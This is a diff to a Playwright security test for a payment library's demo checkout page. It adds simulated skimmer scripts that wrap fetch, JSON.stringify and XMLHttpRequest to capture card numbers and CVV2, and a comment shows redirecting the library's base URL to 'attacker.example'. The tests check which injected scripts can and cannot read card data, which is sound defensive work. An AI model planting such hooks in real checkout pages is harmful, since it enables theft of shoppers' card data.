@@ -5,13 +5,14 @@ import { test, expect, fillCard, CREDENTIALS, FUTURE_YY } from './fixtures';
  * Other scripts on the demo checkout page (script tag + form layer), in Chromium (README "Security model").
  *
  * 1. A script that runs AFTER the library (appended to the page's own checkout.js, as a compromised script
- *    of the page would be) wraps `fetch` and `JSON.stringify`, puts setters
+ *    of the page would be) wraps `fetch`, `JSON.stringify`, and `XMLHttpRequest` (the global and its prototype's
+ *    `open`, `setRequestHeader`, `send` and `responseText`), puts setters
  *    (`card_number`, `cvv2`, `holder_name`) and getters (`toJSON`, fetch settings) on `Object.prototype`, tries
  *    to replace `window.PayToken` and its `setBaseUrl`, and, once a card was sent, calls
  *    `PayToken.setBaseUrl('https://attacker.example')`. None of it yields a digit of the PAN or CVV2, every card
  *    goes to the sandbox, and the payment completes.
  * 2. What the on-page mode cannot stop, so the README's claims are exact: a script that runs BEFORE the library
- *    (its `fetch` wrapper is what the library keeps), an `input` listener, and a built-in method
+ *    (its `XMLHttpRequest.prototype.send` wrapper is what the library keeps), an `input` listener, and a built-in method
  *    (`String.prototype.replace`) wrapped even after load all read the PAN. Hosted fields are the answer.
  *
  * What each script captures is kept in sessionStorage, which outlives the form's post to the result page.
@@ -57,6 +58,14 @@ const AFTER_LOAD = `(function () {
   var realFetch = window.fetch;
   window.fetch = function (url, init) { log('fetch', String(url) + ' ' + String(init && init.body)); return realFetch.apply(this, arguments); };
   JSON.stringify = function (v) { log('JSON.stringify', v); return stringify.apply(JSON, arguments); };
+  var xhr = XMLHttpRequest.prototype, RealXHR = XMLHttpRequest;
+  ['open', 'setRequestHeader', 'send'].forEach(function (m) {
+    var real = xhr[m];
+    xhr[m] = function () { log('xhr.' + m, [].slice.call(arguments).map(String).join(' ')); return real.apply(this, arguments); };
+  });
+  var responseText = Object.getOwnPropertyDescriptor(xhr, 'responseText');
+  Object.defineProperty(xhr, 'responseText', { configurable: true, get: function () { var t = responseText.get.call(this); log('xhr.responseText', t); return t; } });
+  window.XMLHttpRequest = function () { log('new XMLHttpRequest', ''); return new RealXHR(); };
   ['card_number', 'cvv2', 'holder_name'].forEach(function (k) {
     Object.defineProperty(Object.prototype, k, { configurable: true, set: function (v) {
       log('set ' + k, v);
@@ -78,11 +87,13 @@ const AFTER_LOAD = `(function () {
   };
 })();`;
 
-/** Runs before the library: wraps fetch. */
+/** Runs before the library: wraps fetch and XMLHttpRequest's send. */
 const BEFORE_LOAD = `(function () {
   ${LOGGER}
   var realFetch = window.fetch;
   window.fetch = function (url, init) { log('fetch (before load)', String(url) + ' ' + String(init && init.body)); return realFetch.apply(this, arguments); };
+  var realSend = XMLHttpRequest.prototype.send;
+  XMLHttpRequest.prototype.send = function (body) { log('xhr.send (before load)', String(body)); return realSend.apply(this, arguments); };
 })();`;
 
 /** Runs after the library: reads the inputs and wraps a String method. */
@@ -119,6 +130,13 @@ test.describe('other scripts on the checkout page', () => {
     expect(first).toMatch(/^[a-z0-9]{20}$/);
     const redirect = await page.evaluate(() => (window as unknown as { evil: { redirect(): string } }).evil.redirect());
     expect(redirect).toBe('ConfigurationError: baseUrl: fixed once a card has been sent from this page');
+    // the XMLHttpRequest patches are live: an XHR of the page's own goes through them
+    await page.evaluate(() => new Promise((done) => {
+      const x = new XMLHttpRequest();
+      x.open('GET', '/direct?lang=en');
+      x.onloadend = () => done(x.responseText.length);
+      x.send();
+    }));
 
     // the shopper pays with the form
     await fillCard(page, { number: PAN, cvv2: CVV2 });
@@ -127,6 +145,7 @@ test.describe('other scripts on the checkout page', () => {
 
     const lines = await captured(page);
     expect(lines.length).toBeGreaterThan(0); // the hooks did run (device data, the page's own objects)
+    expect(lines.filter((l) => /^(new XMLHttpRequest|xhr\.(open|send|responseText)) /.test(l)).length).toBeGreaterThanOrEqual(4); // the page's own XHR
     expect(withCard(lines)).toEqual([]);
     expect(lines.filter((l) => /^set (card_number|cvv2)/.test(l))).toEqual([]);
     const tokenPosts = recorder.requests.filter((r) => r.method === 'POST' && r.url.endsWith('/tokens'));
@@ -144,7 +163,7 @@ test.describe('other scripts on the checkout page', () => {
     const lines = withCard(await captured(page));
     const byRoute = (route: string) => lines.filter((l) => l.startsWith(route));
     // the body of the token request, PAN and CVV2 in it
-    expect(byRoute('fetch (before load)').some((l) => l.includes(`"card_number":"${PAN}"`) && l.includes(`"cvv2":"${CVV2}"`))).toBe(true);
+    expect(byRoute('xhr.send (before load)').some((l) => l.includes(`"card_number":"${PAN}"`) && l.includes(`"cvv2":"${CVV2}"`))).toBe(true);
     // each keystroke, the whole number at the end
     expect(byRoute('input listener').some((l) => l.replace(/\D/g, '') === PAN)).toBe(true);
     // the card rules normalise the PAN with String.prototype.replace
